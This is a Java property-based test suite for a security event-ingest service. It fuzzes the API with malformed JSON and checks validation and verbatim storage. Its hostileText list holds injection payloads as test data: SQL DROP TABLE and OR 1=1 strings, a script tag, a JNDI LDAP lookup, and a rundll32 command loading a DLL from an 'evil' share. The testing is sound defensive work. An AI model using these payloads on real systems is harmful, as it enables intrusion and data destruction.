package dev.fallbackwatch.ingest;

import static dev.fallbackwatch.testing.DefenderEvents.event;
import static org.assertj.core.api.Assertions.assertThat;

import dev.fallbackwatch.detection.DetectionRun;
import dev.fallbackwatch.detection.DetectionService;
import dev.fallbackwatch.testing.DefenderEvents;
import dev.fallbackwatch.testing.PostgresIntegrationTest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.spring.JqwikSpringSupport;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import tools.jackson.databind.JsonNode;

/**
 * Generated bodies and records against the real service and PostgreSQL: nothing yields a 5xx, a record that
 * fails validation is never stored, every valid record of a mixed batch is stored exactly once, and text that
 * looks like SQL or script is stored and returned verbatim.
 */
@JqwikSpringSupport
class IngestProperties extends PostgresIntegrationTest {

    private static final String VALID_BATCH = """
            [{"Timestamp":"2026-11-30T10:00:00.1234567Z","DeviceName":"ws-1","RemoteIP":"8.8.8.8","RemotePort":443,
              "InitiatingProcessFileName":"a.exe","ReportId":1},
             {"Timestamp":"2026-11-30T10:01:00Z","DeviceName":"ws-1","RemoteIP":"2606:4700::1","RemotePort":"53",
              "InitiatingProcessFileName":"a.exe","ReportId":2}]""";

    private static final String LONE_SURROGATE = "LONE-SURROGATE";

    @Autowired
    DetectionService detection;

    @Property(tries = 150)
    void noBodyYieldsAServerError(@ForAll("hostileBodies") String body, @ForAll boolean ndjson) {
        MvcTestResult result = mvc.post()
                .uri("/api/v1/events")
                .contentType(ndjson ? "application/x-ndjson" : MediaType.APPLICATION_JSON_VALUE)
                .content(body)
                .exchange();

        assertThat(result.getResponse().getStatus()).isLessThan(500);
    }

    @Property(tries = 60)
    void storesEveryValidRecordOnceAndNoInvalidOne(@ForAll("mixedBatches") List<Candidate> batch) {
        String device = "prop-" + UUID.randomUUID();
        List<Map<String, Object>> records = new ArrayList<>();
        for (int i = 0; i < batch.size(); i++) {
            records.add(batch.get(i).record(device, i));
        }

        // JSON may escape half a surrogate pair, which no Java string survives serialising: splice it in.
        JsonNode answer = read(ingestJson(json.writeValueAsString(records).replace(LONE_SURROGATE, "\\ud800")));

        long valid = batch.stream().filter(Candidate::valid).count();
        assertThat(answer.get("accepted").asLong()).isEqualTo(valid);
        assertThat(answer.get("rejected").asLong())
                .as(answer.get("errors").toString())
                .isEqualTo(batch.size() - valid);
        List<String> stored = jdbc.queryForList(
                "SELECT report_id FROM network_event WHERE device_name = ? ORDER BY report_id", String.class, device);
        List<String> expected = new ArrayList<>();
        for (int i = 0; i < batch.size(); i++) {
            if (batch.get(i).valid()) {
                expected.add(device + "-" + i);
            }
        }
        assertThat(stored).containsExactlyInAnyOrderElementsOf(expected);
    }

    @Property(tries = 25)
    void storesAndReturnsHostileTextVerbatim(@ForAll("hostileText") String text) {
        String device = "verbatim-" + UUID.randomUUID();
        List<DefenderEvents> pattern = new ArrayList<>();
        for (int i = 1; i <= 3; i++) {
            pattern.add(event().device(device)
                    .at(Instant.parse("2026-11-30T10:00:00Z").plusSeconds(60L * i))
                    .to("45.77.30." + i, 443)
                    .with("InitiatingProcessCommandLine", text)
                    .with("AccountName", text)
                    .with("RemoteUrl", text));
        }
        assertThat(read(ingest(pattern)).get("accepted").asInt()).isEqualTo(3);

        detection.run(DetectionRun.Trigger.MANUAL, Instant.parse("2026-12-01T00:00:00Z"));

        assertThat(jdbc.queryForList(
                        "SELECT remote_url FROM network_event WHERE device_name = ?", String.class, device))
                .containsOnly(text);
        JsonNode finding = mvc.get()
                                .uri("/api/v1/findings")
                                .param("deviceName", device)
                                .exchange()
                                .getResponse()
                                .getContentAsByteArray()
                                .length
                        == 0
                ? null
                : read(mvc.get()
                                .uri("/api/v1/findings")
                                .param("deviceName", device)
                                .exchange())
                        .at("/content/0");
        assertThat(finding).isNotNull();
        assertThat(finding.get("initiatingProcessCommandLine").asString()).isEqualTo(text);
        assertThat(finding.get("accountName").asString()).isEqualTo(text);
    }

    /** A record of a mixed batch, and whether the service must accept it. */
    record Candidate(boolean valid, String column, Object value) {

        Map<String, Object> record(String device, int index) {
            Map<String, Object> record =
                    event().device(device).reportId(device + "-" + index).build();
            if (column != null) {
                if (value == null) {
                    record.remove(column);
                } else {
                    record.put(column, value);
                }
            }
            return record;
        }
    }

    @Provide
    Arbitrary<List<Candidate>> mixedBatches() {
        Arbitrary<Candidate> valid = Arbitraries.of(
                new Candidate(true, null, null),
                new Candidate(true, "RemoteIPType", null),
                new Candidate(true, "RemotePort", "8080"),
                new Candidate(true, "RemoteIP", "2a00:1450:4001:82a::200e"),
                new Candidate(true, "InitiatingProcessCommandLine", "x".repeat(32_000)),
                new Candidate(true, "Unknown", Map.of("nested", List.of(1, 2))));
        Arbitrary<Candidate> invalid = Arbitraries.of(
                new Candidate(false, "Timestamp", null),
                new Candidate(false, "Timestamp", "yesterday"),
                new Candidate(false, "Timestamp", 12345),
                new Candidate(false, "DeviceName", "  "),
                new Candidate(false, "DeviceName", "d".repeat(300)),
                new Candidate(false, "RemoteIP", "999.1.1.1"),
                new Candidate(false, "RemoteIP", "fe80::1%eth0"),
                new Candidate(false, "RemoteIP", "example.com"),
                new Candidate(false, "RemotePort", 65536),
                new Candidate(false, "RemotePort", -1),
                new Candidate(false, "RemotePort", "1e9"),
                new Candidate(false, "RemotePort", List.of()),
                new Candidate(false, "LocalPort", 70000),
                new Candidate(false, "InitiatingProcessId", -5),
                new Candidate(false, "InitiatingProcessId", "pid"),
                new Candidate(false, "RemoteUrl", "bad\u0000.example"),
                new Candidate(false, "InitiatingProcessCommandLine", "x".repeat(40_000)),
                new Candidate(false, "InitiatingProcessFileName", "lone " + LONE_SURROGATE + " surrogate"));
        return Arbitraries.frequencyOf(Tuple.of(3, valid), Tuple.of(2, invalid))
                .list()
                .ofMinSize(1)
                .ofMaxSize(30);
    }

    @Provide
    Arbitrary<String> hostileBodies() {
        Arbitrary<String> random = Arbitraries.strings().all().ofMaxLength(300);
        Arbitrary<String> truncated =
                Arbitraries.integers().between(0, VALID_BATCH.length()).map(end -> VALID_BATCH.substring(0, end));
        Arbitrary<String> mutated = Combinators.combine(
                        Arbitraries.integers().between(0, VALID_BATCH.length() - 1),
                        Arbitraries.of('{', '}', '[', ']', '"', ',', ':', '\\', '\u0000', '9', 'x', '\n'))
                .as((at, c) -> VALID_BATCH.substring(0, at) + c + VALID_BATCH.substring(at + 1));
        Arbitrary<String> shapes = Arbitraries.of(
                "42",
                "\"text\"",
                "null",
                "true",
                "[[[]]]",
                "{\"records\":7}",
                "{\"records\":[1,null,\"x\"]}",
                "[{\"RemotePort\":1e400}]",
                "[{\"InitiatingProcessId\":123456789012345678901234567890}]",
                "[{\"Timestamp\":\"+999999999-12-31T23:59:59Z\",\"DeviceName\":\"x\"}]",
                "{\"category\":\"AdvancedHunting-DeviceNetworkEvents\",\"properties\":[]}");
        return Arbitraries.oneOf(random, truncated, mutated, shapes);
    }

    @Provide
    Arbitrary<String> hostileText() {
        Arbitrary<String> payloads = Arbitraries.of(
                "'; DROP TABLE network_event; --",
                "\" OR 1=1 --",
                "<script>alert(1)</script>",
                "${jndi:ldap://x/a}",
                "C:\\Windows\\System32\\rundll32.exe \"\\\\evil\\share\\x.dll\",#1",
                "tab\there\nnewline\r\nbackslash\\N \\. end",
                "ünïcödé ✓ 中文 🚀",
                "%s %n %x {0} ?? :param");
        Arbitrary<String> random = Arbitraries.strings()
                .all()
                .excludeChars('\u0000')
                .ofMinLength(1)
                .ofMaxLength(200)
                .filter(s -> !s.isBlank() && s.chars().noneMatch(c -> Character.isSurrogate((char) c)));
        return Arbitraries.oneOf(payloads, random);
    }

    private JsonNode read(MvcTestResult result) {
        assertThat(result.getResponse().getStatus()).isEqualTo(200);
        return json.readTree(result.getResponse().getContentAsByteArray());
    }
}
